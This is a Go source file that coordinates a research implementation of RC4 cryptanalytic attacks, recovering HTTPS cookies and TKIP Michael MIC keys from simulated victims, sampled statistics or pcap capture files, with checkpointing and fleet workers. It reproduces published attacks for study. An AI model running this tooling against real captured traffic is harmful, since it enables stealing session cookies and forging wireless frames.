// Package job is the one place that turns an attack job description into
// live attack state. Both of the paper's attacks (§5 TKIP, §6 HTTPS cookie)
// run the same loop in every deployment shape — capture, decode, check
// against the oracle — and every shape builds that loop's pieces here: the
// attack CLIs (offline, online and fleet-worker), the fleet coordinator,
// the attackd service and the experiments. Evidence can therefore differ
// between shapes only through where capture is called, never through how
// the job was built.
//
// The package owns the rules the shapes must agree on: the §6.1 request
// layout (CookieLayout), the exact-mode victim's key seeding (HTTPSVictim),
// the TKIP model-mode trailer (TrueTrailer), the fingerprint and
// stream-identity checks on resume, and the rule that TKIP exact streams
// carry seed 0.
//
// Model-mode evidence depends on where Runtime.CaptureTo is called: each
// call draws its sufficient statistics from
// cliutil.ContinuationSeed(seed, observed), so a call is never re-chunked
// here. The CLI offline path draws once, the online paths once per cadence
// point, the service once per granule, and fleet lanes from
// cliutil.LaneSeed. Exact-mode evidence does not depend on where calls
// fall: the live victim is one more trace source, so its records and
// frames fold through the same cookieattack and tkip TraceCollector batch
// that pcap ingest uses, and the CLIs advance it in bounded
// cliutil.CheckpointLoop chunks.
package job

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"math/rand"

	"rc4break/internal/cliutil"
	"rc4break/internal/cookieattack"
	"rc4break/internal/fleet"
	"rc4break/internal/httpmodel"
	"rc4break/internal/netsim"
	"rc4break/internal/online"
	"rc4break/internal/rc4"
	"rc4break/internal/snapshot"
	"rc4break/internal/tkip"
	"rc4break/internal/tlsrec"
)

// Spec describes one attack job: which attack, which capture source, and
// the inputs that source needs.
type Spec struct {
	// Attack is "cookie" (§6 HTTPS cookie recovery) or "tkip" (§5 Michael
	// MIC key recovery).
	Attack string
	// Mode is the capture source: "model" (sampled sufficient statistics)
	// or "exact" (the simulated victim's real records or frames). Traces,
	// when set, replaces the exact stream with capture files.
	Mode string
	// Seed identifies the capture stream. TKIP exact streams ignore it.
	Seed int64
	// Secret is the cookie attack's target cookie; its length sets the
	// unknown span. Unused by TKIP.
	Secret string
	// Traces names pcap/pcapng files that concatenate into one logical
	// capture stream (cliutil.ExpandGlobs order).
	Traces []string
	// Model is the TKIP per-TSC model; required by TKIP jobs.
	Model *tkip.PerTSCModel
	// Workers bounds capture and decode parallelism (0 = GOMAXPROCS); it
	// never affects evidence.
	Workers int
}

// Runtime binds a job to live attack state: the decoder/oracle pair the
// online loop drives, the capture function, and the evidence serializer
// checkpoints persist.
type Runtime struct {
	// Decoder is the attack's evidence accumulator: *cookieattack.Attack
	// or *tkip.Attack.
	Decoder online.Decoder
	// Oracle is *netsim.CookieServer or *tkip.TrailerOracle.
	Oracle online.Oracle
	// Unit names one observation in status lines: "records" or "frames".
	Unit string

	mode     string
	capture  func(target uint64) error
	stream   *snapshot.StreamInfo
	pool     fleet.Pool
	write    func(io.Writer) error
	save     func(path string) error
	simulate func(rng *rand.Rand, n uint64) error
	// exactFrom positions the exact victim at observation skip and returns
	// the capture function that folds its stream up to an absolute stream
	// position.
	exactFrom func(skip uint64) (func(target uint64) error, error)
	// ingest folds n observations of the trace files, starting at skip;
	// strict fails when the files cannot cover the range.
	ingest  func(skip, n uint64, strict bool) error
	summary func() string
}

// New builds the runtime for spec, resuming from evidence (a prior
// snapshot's bytes) when non-nil. Resumed evidence must come from the same
// configuration and, once it holds observations, from the same capture
// stream: the exact victim is fast-forwarded past what it holds, and model
// draws continue from its observation count.
func New(spec Spec, evidence []byte) (*Runtime, error) {
	rt, err := spec.build(evidence)
	if err != nil {
		return nil, err
	}
	want := spec.stream()
	if rt.Observed() > 0 && *rt.stream != want {
		return nil, fmt.Errorf("job: evidence stream is %s/seed %d, the job's is %s/seed %d",
			rt.stream.Mode, rt.stream.Seed, want.Mode, want.Seed)
	}
	*rt.stream = want
	rt.mode = want.Mode
	switch want.Mode {
	case "trace":
		rt.capture = func(target uint64) error {
			at := rt.Observed()
			return rt.ingest(at, target-at, false)
		}
	case "model":
		rt.capture = func(target uint64) error {
			// Each call derives its noise stream from the continuation
			// point, so a run resumed at any capture point draws exactly
			// as an uninterrupted one.
			at := rt.Observed()
			rng := rand.New(rand.NewSource(cliutil.ContinuationSeed(spec.Seed, at)))
			return rt.simulate(rng, target-at)
		}
	case "exact":
		if rt.capture, err = rt.exactFrom(rt.Observed()); err != nil {
			return nil, err
		}
	default:
		return nil, fmt.Errorf("job: unknown mode %q (want model or exact)", spec.Mode)
	}
	return rt, nil
}

// Observed reports the observations folded into the evidence so far.
func (r *Runtime) Observed() uint64 { return r.Decoder.Observed() }

// CaptureTo advances the evidence to target observations (trace files may
// end short of it). A target at or below Observed is a no-op.
func (r *Runtime) CaptureTo(target uint64) error {
	if target <= r.Observed() {
		return nil
	}
	return r.capture(target)
}

// Evidence serializes the attack state as snapshot-envelope bytes.
func (r *Runtime) Evidence() ([]byte, error) {
	var buf bytes.Buffer
	err := r.write(&buf)
	return buf.Bytes(), err
}

// SaveFile atomically writes the evidence snapshot to path.
func (r *Runtime) SaveFile(path string) error { return r.save(path) }

// Summary describes the capture collector's counters (live victim or
// trace files); empty for model captures.
func (r *Runtime) Summary() string {
	if r.mode == "model" {
		return ""
	}
	return r.summary()
}

// Checkpointed returns the capture function the CLIs drive. Model and
// trace captures run in one call each. Exact captures run under
// cliutil.CheckpointLoop in bounded chunks, so path (when set) is
// rewritten every `every` observations and flushed promptly on
// SIGINT/SIGTERM, which returns cliutil.ErrInterrupted.
func (r *Runtime) Checkpointed(path string, every uint64) func(target uint64) error {
	if r.mode != "exact" {
		return r.CaptureTo
	}
	return func(target uint64) error {
		return cliutil.CheckpointLoop{
			Target:    target,
			Path:      path,
			Every:     every,
			Unit:      r.Unit,
			Save:      func() error { return r.save(path) },
			Progress:  r.Observed,
			AdvanceTo: r.CaptureTo,
		}.Run()
	}
}

// Pool builds the fleet coordinator's side of the job: the evidence pool
// worker lanes merge into (resumed from evidence when non-nil) and the
// oracle its decode rounds check against. A pool merges many lane streams,
// so it carries no stream identity of its own.
func (s Spec) Pool(evidence []byte) (fleet.Pool, online.Oracle, error) {
	rt, err := s.build(evidence)
	if err != nil {
		return nil, nil, err
	}
	return rt.pool, rt.Oracle, nil
}

// Fingerprint is the compatibility stamp fleet workers present to the
// coordinator: the cookie request layout's, or the TKIP model's.
func (s Spec) Fingerprint() ([16]byte, error) {
	if s.Attack == "tkip" {
		if s.Model == nil {
			return [16]byte{}, errors.New("job: tkip jobs need a trained model")
		}
		return s.Model.Fingerprint()
	}
	rt, err := s.build(nil)
	if err != nil {
		return [16]byte{}, err
	}
	return rt.Decoder.(*cookieattack.Attack).Fingerprint(), nil
}

// CollectLane captures one leased fleet lane into fresh evidence stamped
// with the lease's stream identity and returns its snapshot bytes. A lane
// is a pure function of (job, lane), so a re-leased lane recaptures
// byte-identically: model lanes draw once from cliutil.LaneSeed, exact
// lanes replay the victim from the lane's absolute offset, and with Traces
// set exact lanes are carved strictly out of the capture files.
func (s Spec) CollectLane(fj fleet.JobSpec, lease fleet.Lease) ([]byte, error) {
	s.Mode, s.Seed = fj.Mode, fj.Seed
	rt, err := s.build(nil)
	if err != nil {
		return nil, err
	}
	*rt.stream = lease.Stream
	switch {
	case fj.Mode == "model" && s.Traces != nil:
		return nil, errors.New("job: capture files serve exact-mode lanes; a trace is one concrete stream, not a statistical model")
	case fj.Mode == "model":
		err = rt.simulate(rand.New(rand.NewSource(cliutil.LaneSeed(fj.Seed, lease.Lane))), lease.Records)
	case fj.Mode == "exact" && s.Traces != nil:
		err = rt.ingest(lease.Start, lease.Records, true)
	case fj.Mode == "exact":
		var capture func(uint64) error
		if capture, err = rt.exactFrom(lease.Start); err == nil {
			err = capture(lease.Start + lease.Records)
		}
	default:
		return nil, fmt.Errorf("job: unknown fleet mode %q", fj.Mode)
	}
	if err != nil {
		return nil, err
	}
	return rt.Evidence()
}

// stream is the capture-stream identity evidence of this spec carries.
func (s Spec) stream() snapshot.StreamInfo {
	switch {
	case s.Traces != nil:
		// A trace-fed stream is its file set: two ingests of the same
		// files share an identity, so merging them is refused.
		return snapshot.StreamInfo{Mode: "trace", Seed: cliutil.TraceStreamSeed(s.Traces)}
	case s.Attack == "tkip" && s.Mode == "exact":
		// The exact stream is the demo session's TSC sequence; the seed
		// plays no part in it, so every exact capture shares one identity.
		return snapshot.StreamInfo{Mode: "exact"}
	}
	return snapshot.StreamInfo{Mode: s.Mode, Seed: s.Seed}
}

// build makes the attack state, resumed from evidence when non-nil, with
// no capture stream attached.
func (s Spec) build(evidence []byte) (*Runtime, error) {
	switch s.Attack {
	case "cookie":
		return s.buildCookie(evidence)
	case "tkip":
		return s.buildTKIP(evidence)
	}
	return nil, fmt.Errorf("job: unknown attack %q (want cookie or tkip)", s.Attack)
}

// CookieLayout builds the §6.1 attack configuration for secret: the
// aligned request (cookie first in the header, padding injected after) and
// the cookieattack.Config that reads it, with both ABSAB gap ranges at the
// paper's 128 and the RFC 6265 cookie charset.
func CookieLayout(secret string) (cookieattack.Config, httpmodel.Request, error) {
	req, counterBase, err := netsim.AlignedRequest("site.com", "auth", secret, 64)
	if err != nil {
		return cookieattack.Config{}, req, err
	}
	return cookieattack.Config{
		CookieLen:   len(secret),
		Offset:      req.CookieOffset(),
		Plaintext:   req.Marshal(),
		CounterBase: counterBase,
		MaxGap:      128,
		Charset:     httpmodel.CookieCharset(),
	}, req, nil
}

// HTTPSVictim is the exact-mode cookie victim for seed: its TLS master
// secret derives from the seed, so a stream is replayable from its seed
// alone.
func HTTPSVictim(seed int64, req httpmodel.Request) (*netsim.HTTPSVictim, error) {
	master := make([]byte, 48)
	rand.New(rand.NewSource(seed)).Read(master)
	return netsim.NewHTTPSVictim(master, req)
}

func (s Spec) buildCookie(evidence []byte) (*Runtime, error) {
	cfg, req, err := CookieLayout(s.Secret)
	if err != nil {
		return nil, err
	}
	attack, err := cookieattack.New(cfg)
	if err != nil {
		return nil, err
	}
	if evidence != nil {
		resumed, err := cookieattack.ReadSnapshot(bytes.NewReader(evidence))
		if err != nil {
			return nil, err
		}
		if resumed.Fingerprint() != attack.Fingerprint() {
			return nil, errors.New("job: evidence was captured against a different request layout (check the secret)")
		}
		attack = resumed
	}
	attack.Workers = s.Workers
	rt := &Runtime{
		Decoder: attack,
		Oracle:  &netsim.CookieServer{Secret: []byte(s.Secret)},
		Unit:    "records",
		stream:  &attack.Stream,
		pool:    &fleet.CookiePool{Attack: attack},
		write:   attack.WriteSnapshot,
		save:    attack.WriteSnapshotFile,
		simulate: func(rng *rand.Rand, n uint64) error {
			return attack.SimulateStatistics(rng, []byte(s.Secret), n)
		},
	}
	var st cookieattack.TraceStats
	rt.summary = func() string {
		return fmt.Sprintf("capture: %d packets, %d TLS records (%d matched, %d other), %d flows abandoned, %.1f MB of capture payload",
			st.Packets, st.Records, st.Matched, st.OtherRecords, st.DeadFlows, float64(st.Bytes)/(1<<20))
	}
	wantLen := len(cfg.Plaintext) + tlsrec.MACSize
	rt.ingest = func(skip, n uint64, strict bool) (err error) {
		st, err = cookieattack.CollectTraceFiles(attack, wantLen, s.Traces, skip, n, strict)
		return err
	}
	rt.exactFrom = func(skip uint64) (func(uint64) error, error) {
		victim, err := HTTPSVictim(s.Seed, req)
		if err != nil {
			return nil, err
		}
		victim.Skip(skip) // raw PRGA fast-forward: no HMAC or record assembly
		// The victim's connection is one more trace flow: its records go
		// through the §6.3 scanner and the batched fold pcap ingest uses.
		c := &cookieattack.TraceCollector{Attack: attack, WantLen: wantLen}
		return func(target uint64) error {
			defer func() { st = c.Stats }()
			for c.Max = target - skip; !c.Done(); {
				if err := c.Feed(victim.SendRequest()); err != nil {
					return err
				}
			}
			return c.Flush()
		}, nil
	}
	return rt, nil
}

func (s Spec) buildTKIP(evidence []byte) (*Runtime, error) {
	if s.Model == nil {
		return nil, errors.New("job: tkip jobs need a trained model")
	}
	session := tkip.DemoSession()
	victim := netsim.NewWiFiVictim(session, tkip.DemoPayload)
	var attack *tkip.Attack
	var err error
	if evidence != nil {
		// The snapshot's model fingerprint is checked against s.Model.
		attack, err = tkip.ReadAttackSnapshot(bytes.NewReader(evidence), s.Model)
	} else {
		attack, err = tkip.NewAttack(s.Model, tkip.TrailerPositions(len(victim.MSDU)))
	}
	if err != nil {
		return nil, err
	}
	attack.Workers = s.Workers
	trailer := TrueTrailer(session, victim.MSDU)
	rt := &Runtime{
		Decoder: attack,
		Oracle: &tkip.TrailerOracle{
			DA: session.DA, SA: session.SA, MSDU: victim.MSDU,
			Confirm: netsim.ForgeryConfirm(session, victim.MSDU),
		},
		Unit:   "frames",
		stream: &attack.Stream,
		pool:   &fleet.TKIPPool{Attack: attack, Model: s.Model},
		write:  attack.WriteSnapshot,
		save:   attack.WriteSnapshotFile,
		simulate: func(rng *rand.Rand, n uint64) error {
			return attack.SimulateCaptures(rng, trailer, n)
		},
	}
	var st tkip.TraceStats
	rt.summary = func() string {
		return fmt.Sprintf("capture: %d packets, %d TKIP frames (%d matched, %d dup, %d frag, %d other-length, %d skipped), %.1f MB of capture payload",
			st.Packets, st.Frames, st.Matched, st.Duplicates, st.Fragmented, st.OtherLength, st.Skipped, float64(st.Bytes)/(1<<20))
	}
	rt.ingest = func(skip, n uint64, strict bool) (err error) {
		st, err = tkip.CollectTraceFiles(attack, victim.FrameLen(), s.Traces, skip, n, strict)
		return err
	}
	rt.exactFrom = func(skip uint64) (func(uint64) error, error) {
		victim.Skip(skip) // frames are independently keyed by TSC: O(1)
		// The victim's transmissions go through the §5.4 length and TSC
		// filter and the batched fold pcap ingest uses.
		c := &tkip.TraceCollector{Attack: attack, WantLen: victim.FrameLen()}
		return func(target uint64) error {
			defer func() { st = c.Stats }()
			for c.Max = target - skip; !c.Done(); {
				c.Offer(victim.Transmit())
			}
			c.Flush()
			return nil
		}, nil
	}
	return rt, nil
}

// TrueTrailer decrypts one encapsulation with the real key to obtain the
// plaintext MIC‖ICV of msdu, which model-mode capture feeds the sampler.
func TrueTrailer(s *tkip.Session, msdu []byte) []byte {
	f := s.Encapsulate(msdu, 0)
	key := tkip.MixKey(s.TK, s.TA, 0)
	plain := make([]byte, len(f.Body))
	rc4.MustNew(key[:]).XORKeyStream(plain, f.Body)
	return plain[len(msdu):]
}
